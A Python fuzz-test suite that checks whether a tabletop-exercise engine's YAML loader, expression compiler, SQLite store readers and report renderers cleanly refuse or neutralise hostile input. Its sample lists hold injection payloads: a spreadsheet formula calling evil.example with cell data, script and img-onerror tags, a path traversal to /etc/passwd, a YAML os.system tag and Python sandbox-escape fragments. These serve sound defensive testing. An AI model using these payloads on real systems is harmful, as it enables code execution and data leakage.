"""Fuzzing what untrusted input reaches: the YAML loader, the expression language, the store's
readers and the report renderers.

The promise under test: whatever the input, a clear refusal (a ``ContentError``, an
``ExpressionError``, a ``StoreError``, exit code 1) or a result; never another exception, never
an "internal error", never a hang, never a file written outside the working folder; and every
output free of what could run (formulas, links, markup, escape sequences).

Runs are derandomized (the same examples on every machine, no example database), so CI is
deterministic; ``FUZZ_EXAMPLES`` scales them for a longer local run. Each call runs under a
generous time budget enforced by ``SIGALRM``: a call that outlives it is a hang, not slowness.
"""

from __future__ import annotations

import contextlib
import csv
import io
import json
import os
import shutil
import signal
import sqlite3
import tempfile
from collections.abc import Iterator
from pathlib import Path

import msgspec
import pytest
from fixtures.aar import play
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from exercise_engine.cli import main
from exercise_engine.engine import events as ev
from exercise_engine.model.diagnostics import ContentError
from exercise_engine.model.expressions import ExpressionError, compile_expression
from exercise_engine.model.loader import load_catalog
from exercise_engine.model.yamlsource import load_yaml
from exercise_engine.neutralise import markdown_inline
from exercise_engine.report import render_csv, render_html, render_json, render_md
from exercise_engine.report.build import build_aar
from exercise_engine.store import Store, StoreError

SCALE = int(os.environ.get("FUZZ_EXAMPLES", "1"))
BUDGET_S = 20
FIXTURES = Path(__file__).parent / "fixtures"
CONTENT = FIXTURES / "content"
VALID = (FIXTURES / "broken" / "valid.yaml").read_text()


def fuzz(examples: int) -> settings:
    return settings(
        max_examples=examples * SCALE,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
    )


class Hang(Exception):
    """A call outlived its time budget."""


@contextlib.contextmanager
def budget(seconds: float = BUDGET_S) -> Iterator[None]:
    """Fail a call that takes longer than ``seconds`` (a hang; the budget is generous)."""

    def expired(_signum: int, _frame: object) -> None:
        raise Hang(f"a call took longer than {seconds} s")

    previous = signal.signal(signal.SIGALRM, expired)
    signal.setitimer(signal.ITIMER_REAL, seconds)
    try:
        yield
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)
        signal.signal(signal.SIGALRM, previous)


@contextlib.contextmanager
def working_folder() -> Iterator[Path]:
    """A fresh working folder, made the current directory; afterwards nothing may have been
    written beside it (in its parent) nor in the folder the test started from."""
    start = Path.cwd()
    before_start = sorted(p.name for p in start.iterdir())
    with tempfile.TemporaryDirectory(prefix="fuzz-") as parent:
        folder = Path(parent) / "work"
        folder.mkdir()
        os.chdir(folder)
        try:
            yield folder
        finally:
            os.chdir(start)
        assert sorted(p.name for p in Path(parent).iterdir()) == ["work"]
    assert sorted(p.name for p in start.iterdir()) == before_start


# -- text that attacks --------------------------------------------------------------------------

HOSTILE_PIECES = [
    '=HYPERLINK("https://evil.example/?x="&A1)',
    "+1",
    "-1",
    "@SUM(A1)",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\x1b[2J",
    "\x1b]0;title\x07",
    "\x9b",
    "\u202e",
    "\u2028",
    "\u2029",
    "\u0085",
    "\ufeff",
    "\u200b",
    "![x](https://evil.example/t.png)",
    "[a](https://e.example)",
    "[a][1]\n\n[1]: https://e.example",
    "<script>alert(1)</script>",
    "<img src=x onerror=y>",
    "# heading",
    "\n# heading",
    "- item",
    "| pipe |",
    "`code`",
    "**bold**",
    "\\",
    "\\[",
    "&lt;",
    "&#91;",
    "{{ 7*7 }}",
    "{% raw %}",
    "${HOME}",
    "%s%n",
    "../../etc/passwd",
    "'",
    '"',
    "\U0001f600",
    "e\u0301",
    "\U000e0041",
]
hostile_text = st.lists(
    st.one_of(st.sampled_from(HOSTILE_PIECES), st.text(max_size=12)), max_size=6
).map("".join)


# -- the YAML loader ------------------------------------------------------------------------------

YAML_PIECES = [
    "format: exercise-scenario/1\n",
    "id: x\n",
    "a: ",
    "b:\n",
    "  - ",
    "- ",
    "  ",
    "\n",
    "\t",
    "&a ",
    "&b ",
    "*a",
    "*b",
    "<<: ",
    "<<: *a\n",
    "[",
    "]",
    "{",
    "}",
    ", ",
    ": ",
    "? ",
    "'",
    '"',
    "|\n",
    ">-\n",
    "!!python/object/apply:os.system ",
    "!!binary ",
    "!include ",
    "! ",
    "!!str ",
    "!!map ",
    "!!seq ",
    "!<tag:yaml.org,2002:str> ",
    "%YAML 1.1\n",
    "---\n",
    "...\n",
    "# c\n",
    "yes",
    "on",
    "12:30",
    "2030-01-01",
    ".inf",
    ".nan",
    "1e999",
    "0x1F",
    "0o17",
    "~",
    "null",
    "9" * 40,
    "\x00",
    "\x1b",
    "\u2028",
    "\u0085",
    "\ufeff",
    "\ufffe",
    "\ud7ff",
    "\\",
    "\\u0000",
    "\\x1b",
    "\r",
    "\r\n",
]
yaml_like = st.lists(st.sampled_from(YAML_PIECES), max_size=40).map("".join)


def load(text: str | bytes) -> None:
    """The loader's contract: data with positions, or a ``ContentError`` of one-line diagnostics."""
    try:
        with budget():
            document = load_yaml(text, "fuzz.yaml")
    except ContentError as exc:
        assert exc.diagnostics
        for diagnostic in exc.diagnostics:
            rendered = diagnostic.render()
            assert "\n" not in rendered and "\x1b" not in rendered, rendered
            assert diagnostic.position.line >= 1 or diagnostic.position.line == 0
        return
    assert document.path == "fuzz.yaml"


@fuzz(400)
@given(yaml_like)
def test_yaml_made_of_hostile_pieces_is_read_or_refused(text: str) -> None:
    load(text)


@fuzz(200)
@given(st.binary(max_size=300))
def test_arbitrary_bytes_are_read_or_refused(data: bytes) -> None:
    load(data)


@st.composite
def mutated_scenario(draw: st.DrawFn) -> str:
    """The valid example scenario with a few hostile edits at random places."""
    text = VALID
    for _ in range(draw(st.integers(1, 4))):
        where = draw(st.integers(0, len(text)))
        cut = draw(st.integers(0, 8))
        piece = draw(st.one_of(st.sampled_from(YAML_PIECES), st.sampled_from(HOSTILE_PIECES)))
        text = text[:where] + piece + text[where + cut :]
    return text


@fuzz(120)
@given(mutated_scenario())
def test_a_mutated_scenario_validates_with_diagnostics_only(text: str) -> None:
    with working_folder() as folder:
        (folder / "scenario.yaml").write_text(text, encoding="utf-8", errors="surrogatepass")
        with budget():
            catalog = load_catalog([folder / "scenario.yaml", CONTENT], include_content_path=False)
        for diagnostic in catalog.diagnostics.items:
            assert "\n" not in diagnostic.render()


# -- the expression language ------------------------------------------------------------------

EXPRESSION_PIECES = [
    "violence",
    "displaced",
    "elapsed",
    "elapsed_in_phase",
    "move",
    "phase",
    "true",
    "false",
    "delivered('B-01')",
    "responded('B-01', 'police')",
    "chose('B-01', 'un_mission', 'A')",
    "overdue('B-01')",
    "'12h'",
    "'1s'",
    "'react'",
    "1",
    "0",
    "7.5",
    "1e12",
    "999999999999",
    " and ",
    " or ",
    "not ",
    " == ",
    " != ",
    " < ",
    " <= ",
    " > ",
    " >= ",
    " + ",
    " - ",
    " * ",
    " / ",
    " // ",
    " % ",
    " ** ",
    "8",
    "9",
    "(",
    ")",
    ",",
    "__import__",
    "().__class__",
    ".real",
    "[0]",
    "lambda x: x",
    "x for x in y",
    ":=",
    "f'{x}'",
    "open",
    "'a' * 99",
    "-",
]
expression_like = st.lists(st.sampled_from(EXPRESSION_PIECES), min_size=1, max_size=14).map("".join)


class Context:
    """An exercise state as expressions see it, with values at the edges."""

    def __init__(self, value: float, seconds: int):
        self.phase = "react"
        self.elapsed = seconds
        self.elapsed_in_phase = seconds // 2
        self.move = 3
        self.value = value

    def variable(self, name: str) -> float:
        if name == "displaced":
            raise KeyError(name)
        return self.value

    def delivered(self, inject: str, role: str | None = None) -> bool:
        return True

    def responded(self, inject: str, role: str | None = None) -> bool:
        return False

    def chose(self, inject: str, role: str, option: str) -> bool:
        return option == "A"

    def overdue(self, inject: str, role: str | None = None) -> bool:
        return True


@fuzz(600)
@given(
    st.one_of(expression_like, st.text(max_size=60)),
    st.sampled_from([0.0, -1.0, 1e12, -1e12, 1e308, float("inf"), float("nan")]),
    st.sampled_from([0, 1, 86_400, 2**40]),
)
def test_expressions_compile_or_are_refused_and_always_evaluate(
    source: str, value: float, seconds: int
) -> None:
    try:
        with budget():
            expression = compile_expression(source)
    except ExpressionError as exc:
        assert exc.message and exc.offset >= 0
        return
    with budget():
        assert expression.evaluate(Context(value, seconds)) in (True, False)  # type: ignore[arg-type]
    for _name, threshold in expression.time_thresholds:
        assert isinstance(threshold, int)


# -- the store's readers ------------------------------------------------------------------------

EVENT_TYPES = sorted(ev.EVENT_TYPES)
odd_scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(min_value=-(2**63), max_value=2**63 - 1),
    st.floats(allow_nan=True, allow_infinity=True),
    hostile_text,
)
odd_values = st.one_of(
    odd_scalars,
    st.lists(st.integers(), max_size=3),
    st.dictionaries(st.sampled_from(["kind", "inject", "role", "x"]), st.integers(), max_size=2),
)


@pytest.fixture(scope="module")
def example_database(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
    """A real session, played once by the engine (the same on every run)."""
    path = tmp_path_factory.mktemp("fuzz-store") / "example.db"
    with Store(path) as store:
        session_id = play.persist(store, play.example_session(), label="fuzz")
    with contextlib.closing(sqlite3.connect(path)) as conn:
        conn.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    return path, session_id


@st.composite
def damage(draw: st.DrawFn) -> list[tuple[str, tuple[object, ...]]]:
    """SQL statements that damage the example session the way a crash, a bug in another
    program or a hand edit could: one to three rows or columns changed."""
    statements: list[tuple[str, tuple[object, ...]]] = []
    for _ in range(draw(st.integers(1, 3))):
        seq = draw(st.integers(1, 60))
        kind = draw(
            st.sampled_from(
                ["payload", "json", "type", "t", "role", "delete", "seq", "bundle", "seed"]
            )
        )
        if kind == "payload":
            value = draw(st.one_of(hostile_text, st.binary(max_size=20)))
            statements.append(("UPDATE events SET payload = ? WHERE seq = ?", (value, seq)))
        elif kind == "json":
            key = draw(
                st.sampled_from(
                    [
                        "inject",
                        "to",
                        "cause",
                        "option",
                        "note",
                        "phase",
                        "variable",
                        "new",
                        "old",
                        "reason",
                        "zzz",
                    ]
                )
            )
            value = json.dumps(draw(odd_values), allow_nan=True)
            statements.append(
                (
                    "UPDATE events SET payload = json_set(payload, ?, json(?)) WHERE seq = ?",
                    (f"$.{key}", value, seq),
                )
            )
        elif kind == "type":
            value = draw(st.one_of(st.sampled_from(EVENT_TYPES), hostile_text))
            statements.append(("UPDATE events SET type = ? WHERE seq = ?", (value, seq)))
        elif kind == "t":
            value = draw(odd_scalars)
            statements.append(("UPDATE events SET t = ? WHERE seq = ?", (value, seq)))
        elif kind == "role":
            value = draw(st.one_of(st.none(), hostile_text, st.sampled_from(["police", "all"])))
            statements.append(("UPDATE events SET role = ? WHERE seq = ?", (value, seq)))
        elif kind == "delete":
            statements.append(("DELETE FROM events WHERE seq = ?", (seq,)))
        elif kind == "seq":
            statements.append(("UPDATE events SET seq = seq + 1000 WHERE seq = ?", (seq,)))
        elif kind == "bundle":
            cut = draw(st.integers(0, 5000))
            statements.append(("UPDATE sessions SET bundle = substr(bundle, ?)", (cut,)))
        else:
            value = draw(odd_scalars)
            statements.append(("UPDATE sessions SET seed = ?", (value,)))
    return statements


def _no_control_characters(text: str) -> None:
    assert not [c for c in text if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) < 0xA0]


@fuzz(150)
@given(damage(), st.sampled_from(["md", "html", "json", "csv"]))
def test_a_damaged_session_is_read_or_refused_by_name(example_database, statements, fmt) -> None:
    template, session_id = example_database
    with working_folder() as folder:
        db = folder / "exercise.db"
        shutil.copy(template, db)
        with contextlib.closing(sqlite3.connect(db)) as conn:
            for sql, params in statements:
                with contextlib.suppress(sqlite3.Error):  # e.g. a seq moved onto another
                    conn.execute(sql, params)
            conn.commit()
        try:
            with budget(), Store.reader(db) as store:
                store.read_session(session_id)
        except StoreError as exc:
            assert str(exc) and "\n" not in str(exc)
        stdout, stderr = io.StringIO(), io.StringIO()
        with budget(), contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
            code = main(["report", "--db", str(db), "--format", fmt, "-o", "aar." + fmt])
        assert code in (0, 1), stderr.getvalue()
        assert "internal error" not in stderr.getvalue(), stderr.getvalue()
        written = sorted(p.name for p in folder.iterdir() if not p.name.startswith("exercise.db"))
        assert written == (["aar." + fmt] if code == 0 else []), written
        if code == 0:
            _no_control_characters((folder / f"aar.{fmt}").read_text(encoding="utf-8"))


# -- the renderers --------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def played() -> play.Session:
    return play.example_session()


def _with_texts(session: play.Session, texts: list[str]) -> list[ev.Recorded]:
    """The played log with every free text replaced by hostile ones, in turn."""
    fields = ("text", "rationale", "by", "note", "body", "subject", "evaluator")
    cycle = iter(texts * 200)
    log = []
    for record in session.log:
        event = record.event
        changes = {f: next(cycle) for f in fields if isinstance(getattr(event, f, None), str)}
        if isinstance(event, ev.ResponseRecorded) and event.text:
            changes["text"] = next(cycle)
        replaced = msgspec.structs.replace(event, **changes)
        log.append(ev.Recorded(record.seq, replaced, record.wall_time))
    return log


def _structure(markdown: str) -> list[str]:
    """The block structure a Markdown viewer builds: headings, paragraphs, lists, table rows and
    cells, in order (what a forged newline, pipe or marker would change)."""
    tokens = MarkdownIt("commonmark").enable("table").parse(markdown)
    for token in tokens:
        for inner in [token, *(token.children or ())]:
            assert inner.type not in ("image", "link_open", "html_inline", "html_block"), inner
    return [f"{t.type}{t.markup}" for t in tokens if t.type != "inline"]


@fuzz(60)
@given(
    st.lists(
        hostile_text.filter(lambda text: text == "" or markdown_inline(text) != ""),
        min_size=1,
        max_size=8,
    )
)
@example(["", "=HYPERLINK(1)", "\u2029# heading"])  # found by this test: a forged heading
def test_renderers_show_hostile_text_without_running_it(played, texts: list[str]) -> None:
    with budget():
        aar = build_aar(played.bundle, _with_texts(played, texts))
        markdown = render_md.render(aar)
        table = render_csv.render(aar)
        page = render_html.render(aar)
        data = render_json.render(aar)
    # The same session with a plain word for each distinct hostile text, in the same sort
    # order (evaluators are grouped and sorted by name), must have the same Markdown
    # structure, block for block.
    words = {text: f"word{n:02d}" for n, text in enumerate(sorted(set(texts)))}
    plain = [words[text] if text else "" for text in texts]
    benign = render_md.render(build_aar(played.bundle, _with_texts(played, plain)))
    assert _structure(markdown) == _structure(benign)
    for row in csv.reader(io.StringIO(table)):
        assert not [cell for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "<script>alert" not in page and "<img src=x" not in page
    assert json.loads(data)["format"].startswith("exercise-aar/")
